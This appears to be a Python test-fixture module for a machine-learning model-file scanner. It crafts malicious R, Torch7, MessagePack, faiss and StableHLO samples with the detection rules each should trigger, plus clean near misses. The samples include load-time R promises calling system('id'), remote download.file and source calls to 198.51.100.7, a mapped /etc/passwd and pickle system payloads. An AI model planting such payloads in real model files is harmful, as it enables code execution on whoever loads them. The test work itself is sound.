"""Samples of what files of many libraries can do to whoever loads them; R's and Lua's code is named and never run."""

import gzip
import struct

from tests.craft.attack import several
from tests.craft.attacks_serving import (
    HANDLER,
    SERVING_ATTACKS,
    mar,
    mlflow,
    modelfile,
    nemo,
    spacy,
    triton,
    zarr,
)
from tests.craft.models import (
    LIGHTGBM,
    R,
    ctranslate2,
    faiss_flat,
    faiss_ivf,
    fasttext,
    flax_array,
    mlir,
    model_t7,
    on_disk,
    pack,
    ubj,
    varint,
)
from tests.craft.pickles import asm, system

PICKLE = asm(system(), "STOP")
BOUNDS = {"rule": "model-bounds", "severity": "medium", "verdict": "suspicious"}
AT_LOAD = {"rule": "r-runs-code", "severity": "critical", "name": "model.rds"}
CODE = {"rule": "r-code", "severity": "high", "name": "model.rds"}
x = R()
CALL = ("stablehlo", "custom_call")
HARM = x.call("system", x.texts("id"))


def r(item, kind="X", line=b""):
    return R(kind, line=line).made(item)


def in_kind(kind):
    made = R(kind)
    return made.made(made.list(made.promise(made.call("system", made.texts("id\n")))))


def enclosed(item, **more):
    frame = x.pair(item, tag=x.symbol("x"), **more)
    return x.made(x.closure(x.call("predict", x.symbol("x")), environment=x.environment(frame)))


MODEL_ATTACKS = {
    "R: what runs when somebody looks": several(
        "7.9",
        {
            "a promise in the place of the model (CVE-2024-27322)": r(x.promise(HARM)),
            "a promise in a list": r(x.list(x.reals(1.0), x.promise(HARM))),
            "a promise whose call is none that is known": r(x.promise(x.call("brew"))),
            "the same in text": in_kind("A"),
            "the same in a machine's own order": in_kind("B"),
            "compressed": gzip.compress(r(x.promise(HARM)), mtime=0),
            "in a saved workspace": (
                r(x.pair(x.promise(HARM), tag=x.symbol("model")), line=b"RDX3\n"), {"name": "model.RData"}
            ),
            "a promise in an attribute": r(x.list(x.reals(1.0), attributes=x.pair(x.promise(HARM), tag=x.symbol("names")))),
            "a promise of bytecode": r(x.promise(x.bytecode(x.constant("system")))),
            "a promise that resolves a name": r(x.promise(x.call("do.call", x.texts("sys" "tem"), x.texts("id")))),
            "a promise that functions keep": enclosed(x.promise(x.call("download.file", x.texts("http://198.51.100.7")))),
            "a function that R calls when it starts": (
                r(x.pair(x.closure(x.call("brew")), tag=x.symbol(".First")), line=b"RDX3\n"), {"name": ".RData"}
            ),
            "an active binding": enclosed(x.closure(HARM), levels=1 << 15),
        },
        **AT_LOAD,
    ),
    "R: what somebody has to call": [
        *several(
            "7.9",
            {
                "a closure that starts a program": r(x.closure(HARM)),
                "by its full name": r(x.closure(x.call(x.call("::", x.symbol("base"), x.symbol("system2")), x.texts("id")))),
                "handed to another function": r(x.closure(x.call("lapply", x.texts("id"), x.symbol("system")))),
                "in the default of an argument": r(x.closure(x.nil(), x.pair(HARM, tag=x.symbol("x")))),
                "in compiled code": r(x.closure(x.bytecode(x.constant("unlink")))),
                "a call that is kept": r(x.list(x.call("source", x.texts("http://198.51.100.7/x.R")))),
                "a symbol that comes again": r(x.list(x.symbol("system"), x.pair(x.whole(1 << 8 | 255), kind=6))),
            },
            **CODE,
        ),
        *several(
            "7.9",
            {"a vector that maps a file": r(x.vector_of("mmap_real", x.texts("/etc/passwd")))},
            rule="r-vector-class", severity="medium", verdict="suspicious", name="model.rds",
        ),
        *several(
            "7.9",
            {
                "a vector of 2^31 - 1 elements": r(x.whole(14) + x.whole((1 << 31) - 1)),
                "a long vector of 2^62 elements": r(x.whole(14) + x.whole(-1) + x.whole(1 << 30) + x.whole(0)),
                "a reference to nothing": r(x.whole(9 << 8 | 255)),
                "an item of no type": r(x.whole(99)),
                "a text of a negative length": r(x.whole(16) + x.whole(-7)),
            },
            **BOUNDS, name="model.rds",
        ),
    ],
    "Torch7": [
        *several(
            "7.12",
            {
                "a function": model_t7(lambda t: t.function()),
                "a function of the oldest kind": model_t7(lambda t: t.function(kind=6)),
                "a function, as text": model_t7(lambda t: t.function(), lines=True),
                "a function of Lua 5.1": model_t7(lambda t: t.function(b"\x1bLua\x51\x00")),
            },
            rule="torch7-function", severity="high", name="model.t7",
        ),
        *several(
            "7.12",
            {
                "a table of 2^31 - 1 entries": struct.pack("<iii", 3, 1, (1 << 31) - 1) + bytes(40),
                "an object of no type": struct.pack("<iiii", 3, 1, 1, 77) + bytes(40),
                "a storage that is longer than the file": model_t7(lambda t: t.object("torch.FloatStorage", lambda: struct.pack("<q", 1 << 40))),
            },
            **BOUNDS, name="model.t7",
        ),
    ],
    "MessagePack": [
        *several(
            "7.10",
            {
                "a value of a kind that Flax does not have": pack({"params": {"a": (42, b"x" * 20)}}),
                "the same by its name alone": (pack([(42, b"x" * 20)]), {"name": "model.msgpack"}),
            },
            rule="msgpack-extension", severity="medium", verdict="suspicious", name="flax_model.msgpack",
        ),
        *several(
            "7.10",
            {
                "a pickle in the place of an array of objects (msgpack-numpy)": pack(
                    {"a": {"nd": True, "type": "|O", "kind": b"O", "shape": [1], "data": PICKLE}}
                ),
            },
            name="tokenizer",
        ),
        *several(
            "7.10",
            {
                "a map of 2^32 - 1 keys": b"\x81\xa1a\xdf\xff\xff\xff\xff" + bytes(20),
                "bytes that are longer than the file": b"\x81\xa1a\xc6\xff\xff\xff\xff" + bytes(20),
                "an array that is longer than its extension": pack({"a": (1, b"\xc6\0\0\0\x09abc")}) + bytes(20),
                "an extension that holds more than an array": pack({"a": (1, flax_array([1], b"abcd")[1] + b"\xc0")}),
                "a value of no kind": b"\x81\xa1a\xc1" + bytes(9),
            },
            **BOUNDS, name="flax_model.msgpack",
        ),
    ],
    "Layouts that lead out of the file": several(
        "7.8, 7.12",
        {
            "UBJSON: an array of 2^62 numbers": (ubj(b"[$d#L" + struct.pack(">q", 1 << 62)), {"name": "model.ubj"}),
            "UBJSON: a text of a negative length": (ubj(b"SL" + struct.pack(">q", -8)), {"name": "model.ubj"}),
            "UBJSON: a typed array without a length": (ubj(b"[$d\0"), {"name": "model.ubj"}),
            "UBJSON: a key that is no text": (ubj(b"{d\0\0\0\0"), {"name": "model.ubj"}),
            "UBJSON: 2^31 empty objects": (ubj(b"[$T#l\x7f\xff\xff\xff"), {"name": "model.ubj"}),
            "fastText: a matrix that is larger than the file": (fasttext(matrix=(1 << 40, 300)), {"name": "model.bin"}),
            "fastText: a matrix of a negative size": (fasttext(matrix=(-4, 300)), {"name": "model.bin"}),
            "fastText: more words than the file has room for": (fasttext(count=1 << 30), {"name": "model.bin"}),
            "fastText: a version that does not exist": (fasttext(version=99), {"name": "model.bin"}),
            "faiss: more numbers than the file has": (faiss_flat(length=1 << 60), {"name": "a.index"}),
            "faiss: lists of another number": (
                faiss_ivf(b"ilar" + struct.pack("<QQ", 2, 16) + b"full" + struct.pack("<QQ", 1, 0)), {"name": "a.index"}
            ),
            "faiss: lists that are longer than the file": (
                faiss_ivf(b"ilar" + struct.pack("<QQ", 1, 16) + b"full" + struct.pack("<QQ", 1, 1 << 40)), {"name": "a.index"}
            ),
            "XGBoost: more nodes than the file has room for": (
                b"binf" + bytes(136) + b"".join(struct.pack("<Q", len(t)) + t for t in (b"reg:linear", b"gbtree"))
                + struct.pack("<i156x", 1) + struct.pack("<ii140x", 1, 1 << 30), {"name": "xgb.model"}
            ),
            "OCDBT: a frame that is longer than the file": (
                b"\x0c\xdb\x3a\x2a" + struct.pack("<QBB", 1 << 20, 0, 0) + bytes(30), {"name": "manifest.ocdbt"}
            ),
            "OCDBT: a frame of no length": (
                b"\x0c\xdb\x3a\x2a" + struct.pack("<QBB", 0, 0, 0) + bytes(30), {"name": "manifest.ocdbt"}
            ),
            "CatBoost: a model that is longer than the file": (b"CBM1" + struct.pack("<I", 1 << 31) + bytes(40), {"name": "a.cbm"}),
        },
        **BOUNDS,
    ),
    "StableHLO": [
        *several(
            "7.10",
            {
                "a callback to Python": (
                    mlir(CALL, ("func", "func"), strings=("xla_ffi_python_cpu_callback",)), {"severity": "high", "verdict": "malicious"}
                ),
                "a function that nobody knows": mlir(CALL, strings=("mine", "main")),
                "the same in the newer spelling": mlir(("vhlo", "custom_call_v1"), strings=("mine",), aligned=True),
            },
            rule="hlo-custom-call", severity="medium", verdict="suspicious", name="model.mlirbc",
        ),
        *several(
            "7.10",
            {"a dialect that nobody knows": mlir(("stablehlo", "add"), ("mine", "run"))},
            rule="hlo-dialect", severity="medium", verdict="suspicious", name="model.mlirbc",
        ),
        *several(
            "7.10",
            {
                "a section that is longer than the file": mlir(CALL, strings=("Sharding",), more=b"\x05" + varint(1 << 40)),
                "a section of no kind": mlir(CALL, strings=("Sharding",), more=b"\x63\x01"),
                "more strings than there are": b"ML\xefR\x0dx\0\0" + varint(9) + varint(1 << 50) + bytes(8),
            },
            **BOUNDS, name="model.mlirbc",
        ),
    ],
}  # fmt: skip
MODEL_ATTACKS |= SERVING_ATTACKS | {
    "Other files": [
        *several(
            "7.12",
            {"faiss: lists that lie elsewhere": faiss_ivf(on_disk("/etc/passwd"))},
            rule="faiss-lists", severity="high", name="a.index",
        ),
        *several(
            "7.12",
            {"faiss: lists beside the index": faiss_ivf(on_disk("lists.ivfdata"))},
            rule="faiss-lists", severity="medium", verdict="suspicious", name="a.index",
        ),
        *several(
            "7.8",
            {"LightGBM: where the data lay": LIGHTGBM.format("/home/me/train.csv").encode()},
            rule="model-path", severity="low", verdict="clean", name="model.txt",
        ),
        *several(
            "7.12",
            {
                "a pickle behind the end of a model": (model_t7() + PICKLE, {"name": "model.t7"}),
                "a pickle behind the end of vectors": (fasttext() + PICKLE, {"name": "model.bin"}),
            },
            rule="model-trailing", severity="high",
        ),
    ],
}  # fmt: skip
HONEST = {
    "closure.rds": r(x.closure(x.call("eval", x.symbol("url")), x.pair(x.nil(), tag=x.symbol("system")))),
    "forced.rds": r(x.list(x.promise(x.call("sum"), x.reals(2.0)))),
    "sequence.rds": r(x.vector_of("compact_intseq", x.reals(9.0, 1.0, 1.0))),
    "names.rds": r(x.list(x.texts("system"), attributes=x.pair(x.texts("unlink"), tag=x.symbol("names")))),
    "model.t7": model_t7(),
    "lines.t7": model_t7(lines=True),
    "flax.msgpack": pack({"params": {"a": flax_array([2, 2], PICKLE[:16].ljust(16))}, "step": 4}),
    "key2row": b"\x82\xcf" + bytes(8) + b"\x01\xce" + bytes(4) + b"\x02",
    "patterns": pack([{"patterns": [["x"]]}, 3]),
    "flat.index": faiss_flat(metric=22),
    "model.bin": ctranslate2(),
    "model.mlirbc": mlir(CALL, strings=("lapack_sgeqrf_ffi", "main"), more=b"\x85\x03\x03\x01"),
    "MLmodel": mlflow("mlflow.pytorch"),
    "model.mar": mar("image_classifier"),
    "config.pbtxt": triton(
        'platform: "onnxruntime_onnx"\noptimization < graph : { level: -1 } >; parameters [ { key: "a" } ]'
    ),
    "Modelfile": modelfile(
        "TEMPLATE", "{{- range $i, $_ := .Messages }}{{ if eq .Role `user` }}{{ .Content }}{{ end }}{{ end }}"
    ),
    "own.py": HANDLER,
    ".zarray": zarr(2, compressor={"id": "blosc", "cname": "lz4"}, filters=[{"id": "vlen-utf8"}]),
    "config.cfg": spacy('factory = "ner"'),
    "model.nemo": nemo(b"target: nemo.collections.asr.models.EncDecCTCModel\n_target_: nemo.core.X\n"),
}
"""Near misses: each is clean."""
